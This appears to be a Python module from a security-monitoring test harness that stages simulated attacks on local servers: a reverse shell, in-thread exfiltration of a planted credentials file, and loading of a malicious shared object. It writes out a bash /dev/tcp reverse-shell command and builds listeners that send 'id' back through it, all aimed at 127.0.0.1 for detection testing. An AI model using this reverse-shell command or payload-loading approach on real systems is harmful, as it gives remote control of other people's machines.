"""Attacks: what each one is, the attacker's side of it (listeners, the payload object),
and what it returns to the harness (the process it hit, when, whether it worked).

Three shapes (README, "scenarios"):
- **spawn**: the server starts a program it never runs: a reverse shell to a listener on
  127.0.0.1 that answers `id`.
- **in-thread**: a server thread itself connects out to 127.0.0.1 and reads a sensitive
  file; no new process.
- **code loading**: a shared object is loaded into the server and its constructor runs
  (memfd_create staging, a read of /etc/passwd, a mark file).
"""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from sysgram.demo.attack import ReverseShellListener

SPAWN, IN_THREAD, CODE_LOADING = "spawn", "in-thread", "code loading"
SHAPES = (SPAWN, IN_THREAD, CODE_LOADING)
PAYLOAD_SOURCE = Path(__file__).with_name("payload.c")


@dataclass
class Outcome:
    """What an attack did: the process it hit (the root of the attacked tree), when it
    began (CLOCK_MONOTONIC ns, before its first call), when its own calls began in the
    server (the latency origin), and whether it worked (with the evidence)."""

    target_pid: int
    begins_ns: int
    effective_ns: int
    succeeded: bool
    evidence: str


@dataclass
class Attack:
    name: str
    shape: str
    how: str                      # one line for the README: the bug or feature abused
    run: Callable[[], Outcome]
    expect_syscalls: tuple[str, ...] = ()   # calls the attacked tree must have made


def reverse_shell_command(port: int) -> str:
    """A shell command line that connects an interactive bash back to the listener."""
    return f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"


class ExfilListener:
    """The attacker's listener on 127.0.0.1: accepts one connection, sends `commands`
    (none: it only receives, as for the in-thread attack's outbound connect) and keeps
    what comes back (the demo's reverse-shell listener)."""

    def __init__(self, commands: tuple[str, ...] = (), timeout: float = 10.0) -> None:
        self.listener = ReverseShellListener(list(commands), timeout=timeout)
        self.port = self.listener.port

    def __enter__(self) -> ExfilListener:
        self.listener.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.listener.sock.close()

    def wait(self) -> bytes:
        """What the connection sent, once it closed (or the timeout passed)."""
        self.listener.wait()
        return self.listener.transcript


class ShellCatcher(ExfilListener):
    """The listener for a reverse shell: sends `id` and `exit`; the attack worked when a
    uid came back."""

    def __init__(self, timeout: float = 10.0) -> None:
        super().__init__(("id", "exit"), timeout)

    def result(self) -> tuple[bool, str]:
        text = self.wait().decode(errors="replace")
        return "uid=" in text, " ".join(text.split())[-160:] or "no shell connected"


@dataclass
class Payload:
    """The built malicious shared object and the file its constructor marks."""

    path: Path
    mark: Path

    def last_pid(self) -> int | None:
        """The process the payload's constructor last ran in."""
        try:
            found = re.findall(r"loaded pid (\d+)", self.mark.read_text())
        except FileNotFoundError:
            return None
        return int(found[-1]) if found else None

    def loads(self) -> int:
        """How many times the payload's constructor has run so far."""
        try:
            return self.mark.read_text().count("loaded pid")
        except FileNotFoundError:
            return 0


def build_payload(directory: Path, name: str = "libsg_payload.so") -> Payload:
    """Compile payload.c into directory/name (world-readable: servers run as other users)."""
    directory.mkdir(parents=True, exist_ok=True)
    mark = directory / "payload.mark"
    out = directory / name
    compiler = shutil.which("gcc") or "cc"
    subprocess.run([compiler, "-shared", "-fPIC", "-O2", f"-DSG_MARK=\"{mark}\"", "-o",
                    str(out), str(PAYLOAD_SOURCE)], check=True, capture_output=True)
    out.chmod(0o755)
    directory.chmod(0o777)  # a server running as www-data or mysql writes the mark here
    return Payload(out, mark)


def plant_secret(directory: Path) -> Path:
    """The server's own credentials file (readable by the user it runs as): what an
    in-thread attack on a server that does not run as root reads."""
    path = directory / "credentials.txt"
    path.write_text("db_user=app\ndb_password=SG-SCENARIO-SECRET\n")
    path.chmod(0o644)
    return path


def wait_for(predicate: Callable[[], bool], timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return predicate()
